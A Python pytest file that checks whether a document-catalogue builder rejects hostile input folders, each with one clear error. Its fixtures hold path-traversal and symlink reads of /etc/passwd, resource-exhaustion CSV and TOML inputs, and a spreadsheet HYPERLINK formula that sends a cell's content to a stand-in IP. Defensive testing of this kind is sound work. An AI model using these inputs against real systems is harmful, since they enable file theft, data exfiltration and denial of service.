"""Hostile catalogues and columns.toml: one failure for the folder, the other folders are built."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from tests.hostile.make import MIB, SOUND
from tests.hostile.run import Build, build, snapshot, text_of

pytestmark = pytest.mark.skipif(os.name == "nt", reason="links of POSIX")

HEADER = "id,title,file\n"


def _catalogue(data: bytes) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / "catalogue.csv").write_bytes(data)
        (folder / "text.txt").write_text(SOUND, "utf-8")

    return write


def _columns(toml: bytes, table: bytes = b"text\nLists are public.\n") -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / "columns.toml").write_bytes(toml)
        (folder / "a.csv").write_bytes(table)

    return write


def _statements(table: bytes, file: str = "a.csv") -> Callable[[Path], None]:
    return _columns(f'file = "{file}"\ntext = "text"\n'.encode(), table)


def _link(name: str, target: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / name).symlink_to(target)
        (folder / "text.txt").write_text("Article 9\n\nA text beside the table.\n", "utf-8")

    return write


def _rows(*files: str) -> Callable[[Path], None]:
    return _catalogue((HEADER + "".join(f"{n},,{f}\n" for n, f in enumerate(files))).encode())


# What is in the folder; how often it fails; what each failure must say.
CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
    "million-rows": (
        _catalogue(HEADER.encode() + b"a,b,text.txt\n" * 1_000_000),
        1,
        "more than 200000 rows",
    ),
    "wide-header": (
        _catalogue(b",".join(b"c%d" % n for n in range(300_000)) + b"\n"),
        1,
        "300000 cells",
    ),
    "wide-row": (_catalogue(HEADER.encode() + b"a" + b"," * 3_000_000), 1, "cells; the limit"),
    "huge-cell": (
        _catalogue(HEADER.encode() + b"a," + b"x" * MIB + b",text.txt\n"),
        1,
        "field larger",
    ),
    "too-large": (_catalogue(HEADER.encode() + b"\n" * (101 * MIB)), 1, "larger than"),
    "open-quote": (_catalogue(HEADER.encode() + b'a,"' + b"x\n" * MIB), 1, "field larger"),
    "nul-bytes": (_catalogue(bytes(5000)), 1, "not text"),
    "binary": (_catalogue(bytes(range(256)) * 99), 1, "not text"),
    "empty": (_catalogue(b""), 1, "empty"),
    "columns-twice": (_catalogue(b"id,file,file\na,b,c\n"), 1, "twice"),
    "no-file-column": (_catalogue(b"id,path\na,b\n"), 1, "no column 'file'"),
    "upwards": (_rows("../../outside.txt"), 1, "outside"),
    "absolute": (_rows("/etc/hostname"), 1, "outside"),
    "nul-in-name": (_rows("a\x00b.txt", f"{'x' * 200}.txt"), 2, "not there"),
    "long-name": (_rows("a/" * 9000), 1, "not there"),
    "a-folder": (_rows("."), 1, "is a folder"),
    "a-device": (_rows("/dev/zero"), 1, "outside"),
    "linked-table": (_link("catalogue.csv", "/etc/passwd"), 1, "outside"),
    "linked-columns": (_link("columns.toml", "/etc/passwd"), 1, "outside"),
    "toml-deep": (_columns(b"a = " + b"[" * 100_000), 1, "cannot be read"),
    "toml-digits": (
        _columns(b'file = "a.csv"\ntext = "text"\nlabel = ' + b"9" * 9000),
        1,
        "cannot be read",
    ),
    "toml-hex": (
        _columns(b'file = "a.csv"\ntext = "text"\nlabel = 0x' + b"f" * 9000),
        1,
        "must be a text",
    ),
    "toml-large": (_columns(b"#" * (2 * MIB)), 1, "larger than"),
    "toml-latin": (
        _columns('file = "a.csv"\ntext = "\xe9"'.encode("latin-1")),
        1,
        "cannot be read",
    ),
    "toml-upwards": (_statements(b"text\na\n", "../../outside.txt"), 1, "outside"),
    "toml-absolute": (_statements(b"text\na\n", "/etc/passwd"), 1, "outside"),
    "toml-nul": (_statements(b"text\na\n", "a\\u0000b"), 1, "cannot be opened|nowhere"),
    "toml-itself": (_statements(b"text\na\n", "columns.toml"), 1, "no column"),
    "statements-rows": (_statements(b"text,n\n" + b"a,1\n" * 600_000), 1, "more than 500000 rows"),
    "statements-cell": (_statements(b"text,n\n" + b"a" * MIB + b",1\n"), 1, "field larger"),
    "statements-binary": (_statements(bytes(range(256)) * 99), 1, "not text"),
    "circle": (lambda folder: (folder / "in").symlink_to("."), 0, ""),
    "circle-of-two": (_link("one.txt", "two.txt"), 2, "cannot be opened|nowhere"),
}
ELSEWHERE = {
    "absolute": "/etc/hostname",
    "a-device": "/dev/zero",
    "toml-absolute": "/etc/passwd",
}
FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1)'


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("tables")
    for name, (write, _, _) in CASES.items():
        folder = place / "texts" / name
        folder.mkdir(parents=True)
        write(folder)
    (place / "outside.txt").write_text("Article 8\n\nroot: a text beside the folder.\n", "utf-8")
    (place / "texts" / "sound").mkdir()
    (place / "texts" / "sound" / "sound.txt").write_text(SOUND, "utf-8")
    formula = place / "texts" / "formula"
    formula.mkdir()
    cell = FORMULA.replace('"', '""')
    (formula / "catalogue.csv").write_text(f'id,title,file\nf,"{cell}",f.txt\n', "utf-8")
    (formula / "f.txt").write_text("Article 7\n\nA text whose title computes.\n", "utf-8")
    (place / "texts" / "circle-of-two" / "two.txt").symlink_to("one.txt")
    return place


@pytest.fixture(scope="module")
def built(place: Path) -> Iterator[Build]:
    before = snapshot(place, apart_from=place / "base")
    done = build(place / "texts", "--base", place / "base")
    assert snapshot(place, apart_from=place / "base") == before
    assert done.left_in_tmp == ()
    yield done


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_table_ends_as_one_failure_that_says_why(built: Build, name: str) -> None:
    _, times, says = CASES[name]
    paths = (name, ELSEWHERE.get(name, name))
    failures = built.json["failures"]
    found = [f for f in failures if f["path"] in paths or f["path"].startswith(f"{name}/")]

    assert len(found) == times, found
    assert all(any(word in f["error"] for word in says.split("|")) for f in found), found


def test_the_other_folders_are_built(built: Build, place: Path) -> None:
    assert built.code == 1
    assert "Traceback" not in built.err
    text = text_of(place / "base")
    assert "No machine decides alone" in text
    assert "root:" not in text
    assert built.peak_bytes < 2048 * MIB


def test_a_formula_in_a_cell_is_a_title_and_nothing_more(built: Build, place: Path) -> None:
    assert FORMULA in pq.read_table(place / "base" / "documents.parquet")["title"].to_pylist()
